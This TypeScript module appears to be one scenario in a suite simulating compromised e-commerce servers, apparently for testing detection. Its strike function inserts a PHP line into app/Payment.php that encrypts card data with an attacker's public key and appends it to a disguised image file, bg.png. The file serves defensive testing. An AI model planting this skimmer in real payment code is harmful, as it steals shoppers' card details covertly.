import { serverSide } from '../behaviour.ts';

export default serverSide({
  id: 'core-file-encrypted',
  why: "The loot is encrypted with the attacker's public key on the server (6 of 29), so that even who finds the file learns nothing.",
  covers: ['server: modified core file', 'server: encrypted', 'server: false image'],
  strike: ({ read, write }) => {
    write(
      'app/Payment.php',
      read('app/Payment.php').replace(
        'return true;',
        "openssl_public_encrypt(json_encode($card), $o, $k); file_put_contents('html/upload/save_image/bg.png', base64_encode($o), FILE_APPEND);\n    return true;",
      ),
    );
    write('html/upload/save_image/bg.png', 'q83vEjRWeJASNFZ4kKvN7wEjRWeJq83v'.repeat(8));
  },
});
